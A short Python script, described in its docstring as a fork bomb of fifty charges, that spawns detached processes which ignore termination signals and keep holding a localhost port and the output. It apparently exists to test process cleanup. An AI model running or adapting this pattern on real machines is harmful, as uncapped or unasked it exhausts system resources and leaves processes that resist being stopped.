"""A fork bomb of fifty charges: each process goes on starting others, in sessions of their own and deaf to signals, that keep the port and the output."""
import os
import signal
import socket

listener = socket.create_server(("127.0.0.1", 0))
charges, charger = os.pipe()
os.write(charger, b"." * 50)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
print(listener.getsockname()[1])
while os.read(charges, 1):
    if os.fork() == 0:
        os.setsid()
